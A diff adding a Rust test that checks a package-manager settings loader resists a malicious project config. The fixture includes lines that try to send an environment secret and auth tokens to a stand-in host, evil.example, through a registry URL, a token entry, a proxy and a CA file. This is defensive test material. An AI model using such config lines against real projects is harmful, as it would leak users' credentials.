@@ -206,3 +206,34 @@ fn passwords_in_urls_are_not_shown() {
     );
     assert_eq!(host_of("http://[::1]:4873/x"), "::1");
 }
+
+#[test]
+fn a_project_that_is_only_opened_names_registries_and_nothing_else() {
+    let environment = BTreeMap::from([("SECRET".to_owned(), "secret".to_owned())]);
+    let user = "//user.example/:_authToken=mine\n//plain.example/:_authToken=mine\n";
+    let project = "registry=https://user.example\n\
+                   @acme:registry=http://plain.example\n\
+                   @evil:registry=https://evil.example/${SECRET}\n\
+                   //evil.example/:_authToken=${SECRET}\n\
+                   //plain.example/:_authToken=theirs\n\
+                   proxy=http://evil.example\n\
+                   noproxy=user.example\n\
+                   cafile=evil.pem\n";
+    let settings = Settings::for_opened(environment, Some(project), Some(user));
+    assert_eq!(settings.registry_of("widget"), "https://user.example/");
+    assert_eq!(
+        settings.registry_of("@evil/widget"),
+        "https://evil.example/${SECRET}/"
+    );
+    for (url, expected) in [
+        ("https://user.example/widget", Some("Bearer mine")),
+        // The token is the user's, and the project has chosen that anyone can read it.
+        ("http://plain.example/@acme%2fwidget", None),
+        ("https://plain.example/@acme%2fwidget", Some("Bearer mine")),
+        ("https://evil.example/widget", None),
+    ] {
+        assert_eq!(settings.authorization(url).as_deref(), expected, "{url}");
+    }
+    assert_eq!(settings.proxy("https://evil.example/widget"), None);
+    assert_eq!(settings.certificates(), None);
+}
